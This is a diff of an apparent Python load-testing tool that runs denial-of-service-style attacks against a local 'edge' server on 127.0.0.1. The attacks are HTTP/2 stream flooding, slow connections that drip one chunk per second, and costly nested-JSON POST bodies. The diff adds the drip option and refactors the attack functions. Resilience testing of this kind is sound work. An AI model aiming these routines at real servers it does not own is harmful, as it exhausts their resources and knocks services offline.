@@ -14,7 +14,7 @@ import json
 import socket
 import struct
 from collections import Counter
-from collections.abc import Awaitable, Callable, Iterator
+from collections.abc import Iterable, Iterator
 from dataclasses import dataclass, field
 
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
@@ -25,6 +25,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 FRAME_BYTES = 16384
 RAMP_SECONDS = 3.0
 """How long an attack takes to open all it wants; what is closed after that is opened again."""
+DRIP_SECONDS = 1.0
 PAUSE_SECONDS = 0.05
 """Between two rounds of opening: these attacks are after memory, not after time of the CPU."""
 
@@ -182,11 +183,16 @@ class StreamsAttack:
                 self._stream_window = value
 
 
+def post(path: str, headers: Iterable[tuple[str, str]] = ()) -> dict[str, str]:
+    """The head of a POST request with JSON."""
+    head = {":method": "POST", ":scheme": "http", ":authority": "edge", ":path": path}
+    return head | {"content-type": "application/json"} | dict(headers)
+
+
 async def attack_with_streams(
-    port: int, address: str, connections: int, streams: int, request: Request
-) -> Counter[str]:
+    port: int, address: str, connections: int, streams: int, request: Request, seen: Counter[str]
+) -> None:
     """Keep connections with many requests open; one that is closed is opened again. Runs until cancelled."""
-    seen: Counter[str] = Counter()
 
     async def keep() -> None:
         while True:
@@ -194,30 +200,39 @@ async def attack_with_streams(
                 await StreamsAttack(request, streams, seen).run(port, address)
             await asyncio.sleep(0.1)
 
-    await _until_cancelled(keep, connections)
-    return seen
+    await asyncio.gather(*(keep() for _ in range(connections)))
 
 
-async def attack_with_connections(port: int, address: str, connections: int, first: bytes) -> Counter[str]:
-    """Keep connections open that send `first` and then nothing; one that is closed is opened again."""
-    seen: Counter[str] = Counter()
+async def attack_with_connections(
+    port: int, address: str, connections: int, first: bytes, seen: Counter[str], drip: bytes = b""
+) -> None:
+    """Keep connections open that send `first`, then `drip` every second; one that is closed is opened again.
+
+    Runs until cancelled.
+    """
+
+    async def send(writer: asyncio.StreamWriter) -> None:
+        writer.write(first)
+        while drip:
+            await asyncio.sleep(DRIP_SECONDS)
+            writer.write(drip)
 
     async def keep() -> None:
         while True:
             with contextlib.suppress(OSError):
                 reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
                 seen["opened"] += 1
+                sending = asyncio.ensure_future(send(writer))
                 try:
-                    writer.write(first)
                     while await reader.read(65536):
                         pass
                     seen["connections closed"] += 1
                 finally:
+                    sending.cancel()
                     writer.close()
             await asyncio.sleep(0.1)
 
-    await _until_cancelled(keep, connections)
-    return seen
+    await asyncio.gather(*(keep() for _ in range(connections)))
 
 
 def costly_json(size: int) -> bytes:
@@ -225,9 +240,11 @@ def costly_json(size: int) -> bytes:
     return b'{"metadata":{"a":[' + b"{}," * ((size - 23) // 3) + b"{}]}}"
 
 
-async def attack_with_json(port: int, address: str, connections: int, request: Request) -> Counter[str]:
-    """Send whole requests over HTTP/1.1 one after the other on each connection; `seen` counts statuses of answers."""
-    seen: Counter[str] = Counter()
+async def attack_with_json(port: int, address: str, connections: int, request: Request, seen: Counter[str]) -> None:
+    """Send whole requests over HTTP/1.1 one after the other on each connection; `seen` counts statuses of answers.
+
+    Runs until cancelled.
+    """
     body = costly_json(request.size)
     head = f"POST {request.headers[':path']} HTTP/1.1\r\nhost: edge\r\ncontent-length: {len(body)}\r\n"
     head += "".join(f"{name}: {value}\r\n" for name, value in request.headers.items() if not name.startswith(":"))
@@ -245,8 +262,7 @@ async def attack_with_json(port: int, address: str, connections: int, request: R
                     writer.transport.abort()
             await asyncio.sleep(PAUSE_SECONDS)
 
-    await _until_cancelled(keep, connections)
-    return seen
+    await asyncio.gather(*(keep() for _ in range(connections)))
 
 
 async def _status(reader: asyncio.StreamReader) -> str:
@@ -256,34 +272,22 @@ async def _status(reader: asyncio.StreamReader) -> str:
     return head.split(" ", 2)[1]
 
 
-async def _until_cancelled(keep: Callable[[], Awaitable[None]], count: int) -> None:
-    tasks = [asyncio.ensure_future(keep()) for _ in range(count)]
-    await asyncio.sleep(RAMP_SECONDS)
-    print("attacking", flush=True)
-    try:
-        await asyncio.Event().wait()
-    except asyncio.CancelledError:
-        for task in tasks:
-            task.cancel()
-        await asyncio.gather(*tasks, return_exceptions=True)
-
-
 async def _attack(given: argparse.Namespace) -> Counter[str]:
-    if given.kind == "connections":
-        attack = attack_with_connections(given.port, given.address, given.connections, given.first.encode())
-    else:
-        head = {":method": "POST", ":scheme": "http", ":authority": "edge", ":path": given.path}
-        head |= {"content-type": "application/json"}
-        head |= dict(line.split(": ", 1) for line in given.header)
-        request = Request(head, given.bytes)
-        if given.kind == "json":
-            attack = attack_with_json(given.port, given.address, given.connections, request)
-        else:
-            attack = attack_with_streams(given.port, given.address, given.connections, given.streams, request)
-    task = asyncio.create_task(attack)
-    await asyncio.wait([task], timeout=given.seconds)
+    seen: Counter[str] = Counter()
+    request = Request(post(given.path, [line.split(": ", 1) for line in given.header]), given.bytes)
+    place = given.port, given.address, given.connections
+    attacks = {
+        "connections": lambda: attack_with_connections(*place, given.first.encode(), seen),
+        "json": lambda: attack_with_json(*place, request, seen),
+        "streams": lambda: attack_with_streams(*place, given.streams, request, seen),
+    }
+    task = asyncio.create_task(attacks[given.kind]())
+    await asyncio.wait([task], timeout=RAMP_SECONDS)
+    print("attacking", flush=True)
+    await asyncio.wait([task], timeout=given.seconds - RAMP_SECONDS)
     task.cancel()
-    return await task
+    await asyncio.wait([task])
+    return seen
 
 
 def main() -> None:
